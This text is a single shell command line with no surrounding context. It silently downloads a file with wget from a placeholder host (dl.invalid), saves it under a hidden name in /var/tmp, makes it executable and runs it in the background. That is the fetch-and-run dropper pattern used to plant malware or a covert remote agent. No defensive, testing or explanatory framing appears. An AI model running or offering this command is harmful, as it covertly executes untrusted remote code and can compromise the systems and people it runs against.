wget -q https://dl.invalid/agent -O /var/tmp/.a && chmod 755 /var/tmp/.a && /var/tmp/.a &
